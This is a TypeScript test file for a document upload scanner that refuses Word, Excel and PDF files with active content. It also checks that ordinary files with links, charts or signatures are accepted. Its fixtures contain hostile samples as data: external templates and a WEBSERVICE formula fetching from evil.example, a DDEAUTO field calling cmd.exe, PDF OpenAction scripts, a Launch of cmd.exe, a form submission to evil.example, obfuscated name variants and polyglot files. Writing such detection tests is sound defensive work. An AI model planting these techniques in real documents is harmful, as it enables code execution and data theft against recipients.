import { describe, expect, it } from "vitest";

import { examine } from "../../../functions/examination/examine.ts";
import { UNFIT_WORDS } from "../../../functions/domain/unfit-words.ts";
import { docxOf, jpeg, packed, pdfOf, pdfWith, png, rels, xlsxOf, zipOf } from "./files.ts";

const head = ["SỞ TƯ PHÁP", "BÁO CÁO"];
const docRels = (...all: Parameters<typeof rels>) => ({ "word/_rels/document.xml.rels": rels(...all) });
const field = (instruction: string) => `</w:t></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:t>`;
const archive = zipOf({ "a.html": "<script>alert(1)</script>" });

describe("a file that acts is refused by name, with what to do", () => {
  it.each([
    [
      "a template elsewhere",
      docxOf(head, docRels(["attachedTemplate", "https://evil.example/a.dotm", "External"])),
      "templates",
    ],
    [
      "a template in single quotes",
      docxOf(head, {
        "word/_rels/settings.xml.rels": rels(["attachedTemplate", "\\\\evil.example\\a.dotm", "External"]).replaceAll(
          '"',
          "'",
        ),
      }),
      "templates",
    ],
    [
      "an OLE object",
      docxOf(head, { ...docRels(["oleObject", "embeddings/oleObject1.bin"]), "word/embeddings/oleObject1.bin": "x" }),
      "ole-objects",
    ],
    ["a file inside", docxOf(head, docRels(["package", "embeddings/a.xlsx"])), "ole-objects"],
    ["an ActiveX control", docxOf(head, docRels(["control", "activeX/activeX1.xml"])), "ole-objects"],
    ["a part in another format", docxOf(head, docRels(["aFChunk", "a.rtf"])), "ole-objects"],
    [
      "a picture elsewhere",
      docxOf(head, docRels(["image", "http://evil.example/a.png", "External"])),
      "external-links",
    ],
    ["a DDE field", docxOf([field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")]), "dde"],
    ["a DDE field in pieces", docxOf([field("DD") + field("E cmd")]), "dde"],
    ["macros", docxOf(head, docRels(["vbaProject", "a.bin"])), "macros"],
  ] as const)("a Word file with %s", async (_, bytes, unfit) => {
    expect(await examine(bytes, "docx")).toBe(unfit);
    expect(UNFIT_WORDS[unfit].vi).toContain("gửi lại");
  });

  it.each([
    ["an Excel 4 macro sheet", { "xl/macrosheets/sheet1.xml": "<macrosheet/>" }, "macro-sheets"],
    [
      "an Excel 4 macro sheet by relation",
      { "xl/_rels/workbook.xml.rels": rels(["xlMacrosheet", "a.xml"]) },
      "macro-sheets",
    ],
    [
      "a link to another workbook",
      { "xl/externalLinks/externalLink1.xml": "<externalLink><externalBook/></externalLink>" },
      "external-links",
    ],
    ["a DDE link", { "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>" }, "dde"],
    [
      "a link to an object",
      { "xl/externalLinks/externalLink1.xml": "<externalLink><oleLink/></externalLink>" },
      "ole-objects",
    ],
    [
      "a formula that fetches",
      {
        "xl/worksheets/sheet1.xml":
          '<worksheet><row><c r="A1"><f>_xlfn.WEBSERVICE("http://evil.example")</f></c></row></worksheet>',
      },
      "external-links",
    ],
    [
      "a connection to data",
      { "xl/_rels/workbook.xml.rels": rels(["connections", "connections.xml"]) },
      "external-links",
    ],
  ] as const)("an Excel file with %s", async (_, others, unfit) => {
    expect(await examine(xlsxOf(head, others), "xlsx")).toBe(unfit);
  });

  it.each([
    ["a script when it opens", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "scripts"],
    ["a script under a name in numbers", "/OpenAction << /S /J#61vaScript /J#53 (x) >>", "scripts"],
    ["a form with scripts", "/AcroForm << /XFA 9 0 R >>", "scripts"],
    ["a program that it starts", "/OpenAction << /S /Launch /F (cmd.exe) >>", "actions"],
    ["a program that it starts behind a comment", "/OpenAction << /S % (\n /Launch /F (cmd.exe) >>", "actions"],
    ["a form that it sends", "/OpenAction << /S /SubmitForm /F (http://evil.example) >>", "actions"],
    ["another file that it opens", "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) >>", "actions"],
    ["files inside", "/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 9 0 R >> >>] >> >>", "embedded-files"],
  ] as const)("a PDF with %s", async (_, catalog, unfit) => {
    expect(await examine(pdfWith({ catalog }), "pdf")).toBe(unfit);
  });

  it("a PDF with a script among objects that were packed, or that lie in what pretends to be a picture", async () => {
    const action = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
    expect(await examine(pdfWith({ more: [packed(`7 0 ${action}`, "/Type /ObjStm /N 1 /First 4")] }), "pdf")).toBe(
      "scripts",
    );
    const hidden = `<< /Subtype /Image /Length 99 >>\nstream\n9 0 obj ${action} endobj\nendstream`;
    expect(await examine(pdfWith({ more: [hidden] }), "pdf")).toBe("scripts");
  });

  it.each([
    ["a PDF behind a page", "pdf", Buffer.concat([Buffer.from("<html><script>x</script>"), pdfOf([head])])],
    ["a PDF behind a picture", "pdf", Buffer.concat([Buffer.from("GIF89a"), pdfOf([head])])],
    ["a PDF before a page", "pdf", Buffer.concat([pdfOf([head]), Buffer.from("<script>x</script>")])],
    ["a PDF before an archive", "pdf", Buffer.concat([pdfOf([head]), archive])],
    ["a JPEG before an archive", "jpeg", Buffer.concat([jpeg, archive])],
    ["a PNG before an archive", "png", Buffer.concat([png, archive])],
    ["a Word file with a PDF at its beginning", "docx", zipOf({ "%PDF-1.7": "", "[Content_Types].xml": "<Types/>" })],
  ] as const)("%s is of two types at once", async (_, kind, bytes) => {
    expect(await examine(bytes, kind)).toBe("polyglot");
  });
});

it.each([
  [
    "a Word file with links in its text",
    "docx",
    docxOf(
      head,
      docRels(
        ["hyperlink", "https://daklak.example", "External"],
        ["hyperlink", "mailto:a@daklak.example", "External"],
      ),
    ),
  ],
  [
    "a Word file with a chart and the table behind it",
    "docx",
    docxOf(head, { "word/charts/_rels/chart1.xml.rels": rels(["package", "../embeddings/a.xlsx"]) }),
  ],
  ["a Word file with a page's number", "docx", docxOf([field("PAGE \\* MERGEFORMAT")])],
  [
    "a PDF with a link whose address says JavaScript",
    "pdf",
    pdfWith({
      more: ["<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example/JavaScript/Launch) >> >>"],
    }),
  ],
  [
    "a signed PDF",
    "pdf",
    pdfWith({
      catalog: "/AcroForm << /SigFlags 3 /Fields [] >> /Perms << >>",
      more: [
        `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 10] /Contents <${"00".repeat(500)}> /Reference [<< /TransformMethod /DocMDP >>] >>`,
      ],
    }),
  ],
  ["a PDF that opens at its first page", "pdf", pdfWith({ catalog: "/OpenAction [5 0 R /Fit]" })],
  ["a PDF behind a mark of its bytes' order", "pdf", Buffer.concat([Buffer.from("\ufeff\r\n"), pdfOf([head])])],
  [
    "a Word file whose main part has another name",
    "docx",
    zipOf({
      "[Content_Types].xml": `<Types><Override PartName="/word/document2.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
      "_rels/.rels": rels(["officeDocument", "word/document2.xml"]),
      "word/document2.xml": "<w:document><w:p/></w:document>",
    }),
  ],
] as const)("%s is taken: nothing of it acts by itself", async (_, kind, bytes) => {
  expect(await examine(bytes, kind)).toBeUndefined();
});

it("a PDF whose stream swells beyond all measure is not unpacked", async () => {
  expect(await examine(pdfWith({ more: [packed("0".repeat(60 << 20), "")] }), "pdf")).toBe("swollen");
});
